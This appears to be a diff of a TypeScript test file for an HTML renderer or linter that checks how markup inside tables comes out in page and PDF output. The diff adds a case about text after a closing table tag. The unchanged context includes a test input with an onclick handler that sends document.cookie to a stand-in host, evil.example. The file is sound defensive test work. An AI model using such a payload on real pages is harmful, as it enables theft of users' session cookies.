@@ -21,6 +21,13 @@ interface Case {
 }
 
 const cases: Record<string, Case> = {
+  // Text right after a table's end tag, in the same HTML block: a reader must still see it.
+  'text after </table> on the same line': {
+    text: '<table><tr><td>A</td></tr></table>after <b>bold</b> words',
+    page: '<table><tr><td>A</td></tr></table>\nafter \nbold\n words',
+    pdf: 'A after bold words',
+    findings: ['1:41-1:44 Unexpected `<b>`: the page and the PDF drop it and keep its text; write `**text**` instead']
+  },
   // A handler on the table itself, run when a reader clicks anywhere in it.
   'an event handler on <table>': {
     text: '<table onclick="fetch(\'https://evil.example/?c=\'+document.cookie)"><tr><td>Cell</td></tr></table>',
